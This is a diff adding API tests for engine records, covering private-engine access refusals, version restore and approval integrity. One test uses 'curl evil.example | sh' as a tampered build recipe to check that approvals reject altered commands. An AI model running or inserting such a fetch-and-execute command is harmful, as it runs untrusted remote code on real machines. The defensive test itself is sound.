@@ -1,5 +1,6 @@
 """Engine records through the JSON API, and what workers are told of them."""
 
+import re
 from collections.abc import AsyncIterator
 from dataclasses import replace
 
@@ -12,7 +13,7 @@ from rookery.protocol import v1
 from rookery.protocol.engine_record import EngineRecord
 from rookery.service.users import User
 from tests.unit.core.makers import ROOKERY, make_machine, pairs
-from tests.unit.service.people import BORIS, OLGA
+from tests.unit.service.people import BORIS, OLGA, SVEN
 from tests.wire.apis import Api, Json, open_api
 from tests.wire.secrets.plants import with_password, worker_of
 
@@ -51,6 +52,90 @@ async def test_an_engine_is_written_read_and_removed(api: Api) -> None:
 async def test_not_everybody_may_write(api: Api) -> None:
     assert (await api.visitor.put("/api/v1/engines/Ethereal", json=ETHEREAL)).status_code == 401
     assert (await put(api, ETHEREAL, OLGA)).status_code == 403
+
+
+STRIX: Json = {"name": "owls~Strix", "team": "owls", "private": True}
+
+
+async def two_teams(api: Api) -> None:
+    """Olga's has a private engine; Sven has one of his own."""
+    await api.post("/api/v1/teams", OLGA, {"name": "owls"})
+    await api.post("/api/v1/teams", SVEN, {"name": "crows"})
+    assert (await put(api, STRIX, OLGA)).status_code == 201
+
+
+@pytest.mark.parametrize("user", [SVEN, BORIS])
+@pytest.mark.parametrize("team", ["owls", "crows"])
+async def test_to_write_a_private_engine_is_refused_as_if_there_were_none(
+    api: Api, user: User, team: str
+) -> None:
+    await two_teams(api)
+    answers = [
+        await put(api, {"name": name, "team": team}, user)
+        for name in ("owls~Strix", "owls~Other", "nobody~Strix")
+    ]
+    assert {answer.status_code for answer in answers} == {403}
+    texts = {re.sub(r"\b\w+~\w+", "", answer.json()["error"]) for answer in answers}
+    assert len(texts) == 1
+
+
+@pytest.mark.parametrize("user", [SVEN, BORIS])
+async def test_to_remove_a_private_engine_is_refused_as_if_there_were_none(
+    api: Api, user: User
+) -> None:
+    await two_teams(api)
+    headers = dict(await api.headers(user))
+    for path in ("", "/versions", "/restore"):
+        method = {"": "DELETE", "/versions": "GET", "/restore": "POST"}[path]
+        said = [
+            await api.visitor.request(
+                method, f"/api/v1/engines/{name}{path}", json={"version": 1}, headers=headers
+            )
+            for name in ("owls~Strix", "owls~Other")
+        ]
+        texts = {answer.json()["error"].replace("Strix", "Other") for answer in said}
+        assert ({answer.status_code for answer in said}, len(texts)) == ({404}, 1)
+
+
+async def test_what_machines_build_is_what_the_approver_saw(api: Api) -> None:
+    await api.post("/api/v1/teams", OLGA, {"name": "owls"})
+    good = {"kind": "commands", "commands": ["make"]}
+    harmless: Json = {"name": "Strix", "team": "owls", "recipe": good}
+    await put(api, harmless, OLGA)
+    run_id = await api.submitted(OLGA, new_engine="Strix")
+    seen = (await api.get(f"/api/v1/runs/{run_id}", BORIS)).json()
+    assert seen["new_record"]["recipe"] == good
+    evil = {"kind": "commands", "commands": ["curl evil.example | sh"]}
+    assert (await put(api, {**harmless, "recipe": evil}, OLGA)).status_code == 200
+    approve = f"/api/v1/runs/{run_id}/approve"
+    refused = await api.post(approve, BORIS)
+    assert (refused.status_code, seen["records"] in refused.text) == (409, True)
+    assert (await api.post(approve, BORIS, {"records": "f" * 16})).status_code == 409
+    assert (await api.post(approve, BORIS, {"records": seen["records"]})).status_code == 200
+    await put(api, {**harmless, "recipe": evil, "share": 2}, OLGA)
+    run = await api.fleet.known_run((await api.granted(OURS)).run)
+    told = msgspec.json.decode(msgspec.json.encode(api.back.desk.payloads.args(run, ours=True)))
+    assert told["new_record"] == harmless
+
+
+async def test_what_was_written_is_listed_and_restored(api: Api) -> None:
+    await put(api, ETHEREAL)
+    await put(api, {**ETHEREAL, "share": 2})
+    found = (await api.get("/api/v1/engines/Ethereal/versions")).json()["versions"]
+    assert [(each["version"], each["changed_by"]) for each in found] == [(1, "boris"), (2, "boris")]
+    restored = await api.post("/api/v1/engines/Ethereal/restore", BORIS, {"version": 1})
+    assert restored.json()["engines"] == [ETHEREAL]
+    gone = await api.post("/api/v1/engines/Ethereal/restore", BORIS, {"version": 0})
+    assert gone.json()["engines"] == []
+
+
+async def test_a_built_in_record_is_replaced_by_those_alone_who_say_so(api: Api) -> None:
+    answer = await put(api, {"name": "Stockfish"})
+    assert (answer.status_code, "built in" in answer.text) == (409, True)
+    headers = dict(await api.headers(BORIS))
+    place = "/api/v1/engines/Stockfish?replace=true"
+    said = await api.visitor.put(place, json={"name": "Stockfish"}, headers=headers)
+    assert said.status_code == 200
 
 
 async def test_a_bad_record_is_refused_with_the_field(api: Api) -> None:
